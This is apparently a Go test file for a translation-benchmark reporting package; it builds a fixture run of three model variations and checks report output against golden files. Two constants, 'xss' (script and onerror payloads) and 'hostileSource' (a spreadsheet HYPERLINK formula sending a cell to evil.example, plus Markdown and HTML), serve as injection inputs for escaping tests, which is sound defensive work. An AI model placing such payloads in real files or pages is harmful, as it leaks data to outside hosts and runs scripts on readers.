package report

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/bertbench/bertbench/compare"
	"github.com/bertbench/bertbench/gate"
	"github.com/bertbench/bertbench/runners"
	"github.com/bertbench/bertbench/store"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// xss is an output that would run a script if any format let it through as
// markup.
const xss = `<script>alert(1)</script><img src=x onerror=alert(2)>`

// hostileSource is a source with what Markdown, CSV and HTML act on.
const hostileSource = `=HYPERLINK("http://evil.example/?x="&A1,"click") | @octocat **bold** [link](http://evil.example) <b>b</b>`

// testItems is the number of items of the test run.
const testItems = 24

// testStore writes, through the store's API, one run "study" of three
// variations over 24 items, all scored under one configuration with
// rescaled scores:
//   - base: live calls of 300–530 ms, no price;
//   - tuned: base's output with one word added (“的”), F higher by 0.015
//     except on every fourth item (lower by 0.01); item-04's output is xss;
//     item-06's output is English (flagged wrong_language);
//   - api: live calls of 800–1490 ms with TTFT and a price, F higher by
//     0.03 − 0.002 × (i mod 3); item-09 failed (HTTP 500), so it is left out.
//
// item-03's source is hostileSource; item-05's reference starts with "-".
func testStore(tb testing.TB) *store.Store {
	tb.Helper()
	ctx := context.Background()
	st, err := store.Open(ctx, store.PathIn(tb.TempDir()))
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() {
		if err := st.Close(); err != nil {
			tb.Error(err)
		}
	})
	vars := []store.Variation{
		{Name: "base", Runner: "ollama:llama2:13b", Prompt: "{{.Source}}", TargetLang: "zh"},
		{Name: "tuned", Runner: "ollama:llama2-zh-ft", Prompt: "{{.Source}}", TargetLang: "zh"},
		{Name: "api", Runner: "openai:gpt-3.5-turbo", Prompt: "{{.Source}}", TargetLang: "zh"},
	}
	run, err := st.CreateRun(ctx, store.RunConfig{ID: "study", Config: "name: study\n", ConfigHash: "cfg-study", ToolVersion: "test", Variations: vars})
	if err != nil {
		tb.Fatal(err)
	}
	var items []store.Item
	for i := range testItems {
		it := store.Item{ID: fmt.Sprintf("item-%02d", i), Source: fmt.Sprintf("The weather is fine on day %d.", i), References: []string{fmt.Sprintf("第%d天天气很好。", i)}}
		switch i {
		case 3:
			it.Source = hostileSource
		case 5:
			it.References = []string{"-2+3 参考", "第二个参考"}
		}
		items = append(items, it)
	}
	if err := run.PutItems(ctx, items); err != nil {
		tb.Fatal(err)
	}
	const scoring = "7f3a9c1e5b2d4f6a8c0e"
	if err := run.AddScoring(ctx, scoring, `{"model":"tiny"}`); err != nil {
		tb.Fatal(err)
	}
	cost := 0.0004
	var scores []store.Score
	for i, it := range items {
		baseF := 0.80 + 0.01*float64(i%5)
		for _, v := range vars {
			k := store.Key{Variation: v.Name, Item: it.ID}
			res := runners.Result{Runner: v.Runner, Attempts: 1, PromptTokens: 20, CompletionTokens: 12}
			f := baseF
			switch v.Name {
			case "base":
				res.Output = fmt.Sprintf("第%d天天气很好。", i)
				res.Latency = runners.Duration(time.Duration(300+10*i) * time.Millisecond)
			case "tuned":
				res.Output = fmt.Sprintf("第%d天的天气很好。", i)
				res.Latency = runners.Duration(time.Duration(250+9*i) * time.Millisecond)
				f += 0.015
				if i%4 == 0 {
					f = baseF - 0.01
				}
				switch i {
				case 4:
					res.Output = xss
				case 6:
					res.Output = "The weather is fine, in English."
				}
			case "api":
				res.Output = fmt.Sprintf("第%d天天气非常好。", i)
				res.Latency = runners.Duration(time.Duration(800+30*i) * time.Millisecond)
				res.TTFT = runners.Duration(time.Duration(200+5*i) * time.Millisecond)
				res.CostUSD = &cost
				f += 0.03 - 0.002*float64(i%3)
				if i == 9 {
					res = runners.Result{Runner: v.Runner, Error: "HTTP 500: server error", Attempts: 3}
				}
			}
			if _, err := run.PutGeneration(ctx, store.Generation{Key: k, Result: res}); err != nil {
				tb.Fatal(err)
			}
			if res.Error != "" {
				continue
			}
			scores = append(scores, store.Score{Key: k, Raw: store.PRF{P: f - 0.004, R: f + 0.004, F: f},
				Rescaled: &store.PRF{P: (f - 0.704) / 0.3, R: (f - 0.696) / 0.3, F: (f - 0.7) / 0.3}})
		}
	}
	if _, err := run.PutScores(ctx, scoring, scores); err != nil {
		tb.Fatal(err)
	}
	return st
}

// testComparison compares the test run's three variations (base is the
// baseline) with 1,000 seeded resamples and rounds.
func testComparison(tb testing.TB) *compare.Comparison {
	tb.Helper()
	st := testStore(tb)
	in, err := compare.Load(context.Background(), st, []compare.Side{{Run: "study"}}, compare.LoadOptions{})
	if err != nil {
		tb.Fatal(err)
	}
	c, err := compare.Compare(context.Background(), *in, compare.Options{Resamples: 1000, Permutations: 1000, Seed: 1})
	if err != nil {
		tb.Fatal(err)
	}
	return c
}

// testGates are thresholds on the test comparison, some failing.
func testGates(tb testing.TB, c *compare.Comparison) []gate.Result {
	tb.Helper()
	ts, err := gate.ParseAll([]string{"F>=0.80", "F:-0.01", "F.ci_low>=0.83", "latency.p95<=1000", "cost_per_item_usd<=0.001"})
	if err != nil {
		tb.Fatal(err)
	}
	rs, err := gate.Evaluate(c, ts)
	if err != nil {
		tb.Fatal(err)
	}
	return rs
}

// golden compares got with testdata/name, rewriting it under -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./report -run %s -update to write it)", err, t.Name())
	}
	if string(want) != string(got) {
		t.Errorf("%s differs from the golden file %s (go test ./report -run %s -update rewrites it after a deliberate change):\n%s", name, path, t.Name(), firstDiff(string(want), string(got)))
	}
}

// firstDiff shows the first differing line.
func firstDiff(want, got string) string {
	wl, gl := strings.Split(want, "\n"), strings.Split(got, "\n")
	for i := range max(len(wl), len(gl)) {
		var w, g string
		if i < len(wl) {
			w = wl[i]
		}
		if i < len(gl) {
			g = gl[i]
		}
		if w != g {
			return fmt.Sprintf("line %d:\n want %q\n got  %q", i+1, w, g)
		}
	}
	return "(same lines)"
}

func jsonUnmarshal(b []byte, v any) error { return json.Unmarshal(b, v) }
